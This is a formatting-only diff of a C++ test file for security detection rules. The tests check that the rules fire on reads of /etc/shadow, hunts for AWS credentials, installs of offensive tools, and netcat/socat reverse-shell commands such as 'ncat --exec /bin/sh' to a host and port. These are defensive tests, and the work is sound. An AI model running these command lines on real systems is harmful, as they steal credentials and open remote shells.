@@ -19,8 +19,8 @@ using testing::Proc;
 class DefaultRules : public ::testing::Test {
  protected:
   DefaultRules() : engine_(Load(), {"sleep"}) {
-    world_.baseline = {"/usr/bin/cat", "/usr/bin/bash", "/usr/bin/dash", "/usr/bin/find",
-                       "/usr/bin/sh", "/usr/bin/nc", "/usr/bin/socat", "/usr/bin/busybox"};
+    world_.baseline = {"/usr/bin/cat", "/usr/bin/bash", "/usr/bin/dash",  "/usr/bin/find",
+                       "/usr/bin/sh",  "/usr/bin/nc",   "/usr/bin/socat", "/usr/bin/busybox"};
   }
   static RuleSet Load() {
     auto r = rules::DefaultRules();
@@ -55,10 +55,14 @@ TEST_F(DefaultRules, ShipTheSeedSignalsAndTheExtraRules) {
 }
 
 TEST_F(DefaultRules, ShadowReadByAnyProgram) {
-  for (auto argv : std::vector<std::vector<std::string>>{
-           {"cat", "/etc/shadow"}, {"head", "-n1", "/etc/shadow"}, {"tail", "-f", "/etc/shadow"},
-           {"less", "/etc/gshadow"}, {"dd", "if=/etc/shadow", "of=/tmp/x"},
-           {"python3", "-c", "print(open('/etc/shadow').read())"}, {"cp", "/etc//shadow", "/tmp"}}) {
+  for (auto argv :
+       std::vector<std::vector<std::string>>{{"cat", "/etc/shadow"},
+                                             {"head", "-n1", "/etc/shadow"},
+                                             {"tail", "-f", "/etc/shadow"},
+                                             {"less", "/etc/gshadow"},
+                                             {"dd", "if=/etc/shadow", "of=/tmp/x"},
+                                             {"python3", "-c", "print(open('/etc/shadow').read())"},
+                                             {"cp", "/etc//shadow", "/tmp"}}) {
     auto p = Proc(argv[0], argv);
     EXPECT_TRUE(Fires(p, "shadow_file_access")) << argv[0];
   }
@@ -74,46 +78,62 @@ TEST_F(DefaultRules, ShadowReadByAnyProgram) {
 }
 
 TEST_F(DefaultRules, CredentialHunting) {
-  for (auto argv : std::vector<std::vector<std::string>>{
-           {"find", "/", "-iname", ".aws/credentials"}, {"find", "/", "-path", "*/.aws/credentials"},
-           {"find", "/", "-path", "*/.aws/*"}, {"find", "/", "-iname", "credentials"},
-           {"grep", "-r", "aws_secret_access_key", "/home"}, {"grep", "-rE", "AKIA[0-9A-Z]{16}", "/"},
-           {"cat", "/root/.aws/credentials"}, {"ls", "-la", "/root/.aws"}, {"locate", "credentials"}}) {
-    EXPECT_TRUE(Fires(Proc(argv[0], argv), "aws_credential_discovery")) << argv[0] << " " << argv.back();
+  for (auto argv :
+       std::vector<std::vector<std::string>>{{"find", "/", "-iname", ".aws/credentials"},
+                                             {"find", "/", "-path", "*/.aws/credentials"},
+                                             {"find", "/", "-path", "*/.aws/*"},
+                                             {"find", "/", "-iname", "credentials"},
+                                             {"grep", "-r", "aws_secret_access_key", "/home"},
+                                             {"grep", "-rE", "AKIA[0-9A-Z]{16}", "/"},
+                                             {"cat", "/root/.aws/credentials"},
+                                             {"ls", "-la", "/root/.aws"},
+                                             {"locate", "credentials"}}) {
+    EXPECT_TRUE(Fires(Proc(argv[0], argv), "aws_credential_discovery"))
+        << argv[0] << " " << argv.back();
   }
   auto py = Proc("python3", {"python3", "loot.py"});
   AddFile(&py, 4, "/home/app/.aws/credentials");
   EXPECT_TRUE(Fires(py, "aws_credential_discovery"));
-  EXPECT_FALSE(Fires(Proc("find", {"find", "/var/log", "-name", "*.log"}), "aws_credential_discovery"));
+  EXPECT_FALSE(
+      Fires(Proc("find", {"find", "/var/log", "-name", "*.log"}), "aws_credential_discovery"));
 }
 
 TEST_F(DefaultRules, PackageManagers) {
-  for (auto argv : std::vector<std::vector<std::string>>{
-           {"apt", "install", "ncat", "-y"}, {"apt-get", "install", "-y", "ncat"},
-           {"dpkg", "-i", "ncat.deb"}, {"apk", "add", "nmap"}, {"dnf", "install", "nc"},
-           {"yum", "install", "nc"}, {"pip", "install", "impacket"},
-           {"python3", "-m", "pip", "install", "x"}}) {
+  for (auto argv :
+       std::vector<std::vector<std::string>>{{"apt", "install", "ncat", "-y"},
+                                             {"apt-get", "install", "-y", "ncat"},
+                                             {"dpkg", "-i", "ncat.deb"},
+                                             {"apk", "add", "nmap"},
+                                             {"dnf", "install", "nc"},
+                                             {"yum", "install", "nc"},
+                                             {"pip", "install", "impacket"},
+                                             {"python3", "-m", "pip", "install", "x"}}) {
     EXPECT_TRUE(Fires(Proc(argv[0], argv), "package_manager_execution")) << argv[0];
   }
   // dpkg run by apt is part of the apt run already reported.
-  auto child = Proc("dpkg", {"/usr/bin/dpkg", "--status-fd", "35", "--configure"}, "",
-                    {"apt", "bash"});
+  auto child =
+      Proc("dpkg", {"/usr/bin/dpkg", "--status-fd", "35", "--configure"}, "", {"apt", "bash"});
   EXPECT_FALSE(Fires(child, "package_manager_execution"));
 }
 
 TEST_F(DefaultRules, NetcatWithExecOptions) {
-  for (auto argv : std::vector<std::vector<std::string>>{
-           {"ncat", "--exec", "/bin/sh", "10.244.0.1", "4444"},
-           {"ncat", "--sh-exec", "id", "h", "1"}, {"ncat", "--exec=/bin/sh", "h", "1"},
-           {"nc", "-e", "/bin/sh", "h", "1"}, {"nc", "-nve", "/bin/bash", "h", "1"},
-           {"nc.traditional", "-c", "sh", "h", "1"}, {"netcat", "-e/bin/sh", "h", "1"},
-           {"socat", "TCP:h:1", "EXEC:/bin/sh,pty,stderr"}, {"socat", "tcp:h:1", "system:sh"},
-           {"busybox", "nc", "h", "1", "-e", "/bin/sh"}}) {
+  for (auto argv :
+       std::vector<std::vector<std::string>>{{"ncat", "--exec", "/bin/sh", "10.244.0.1", "4444"},
+                                             {"ncat", "--sh-exec", "id", "h", "1"},
+                                             {"ncat", "--exec=/bin/sh", "h", "1"},
+                                             {"nc", "-e", "/bin/sh", "h", "1"},
+                                             {"nc", "-nve", "/bin/bash", "h", "1"},
+                                             {"nc.traditional", "-c", "sh", "h", "1"},
+                                             {"netcat", "-e/bin/sh", "h", "1"},
+                                             {"socat", "TCP:h:1", "EXEC:/bin/sh,pty,stderr"},
+                                             {"socat", "tcp:h:1", "system:sh"},
+                                             {"busybox", "nc", "h", "1", "-e", "/bin/sh"}}) {
     EXPECT_TRUE(Fires(Proc(argv[0], argv), "nc_execution")) << JoinCmdline(argv);
   }
-  for (auto argv : std::vector<std::vector<std::string>>{
-           {"nc", "-lvnp", "4444"}, {"ncat", "-l", "4444"}, {"socat", "TCP-LISTEN:1", "STDOUT"},
-           {"nc", "-zv", "host", "80"}}) {
+  for (auto argv : std::vector<std::vector<std::string>>{{"nc", "-lvnp", "4444"},
+                                                         {"ncat", "-l", "4444"},
+                                                         {"socat", "TCP-LISTEN:1", "STDOUT"},
+                                                         {"nc", "-zv", "host", "80"}}) {
     EXPECT_FALSE(Fires(Proc(argv[0], argv), "nc_execution")) << JoinCmdline(argv);
   }
 }
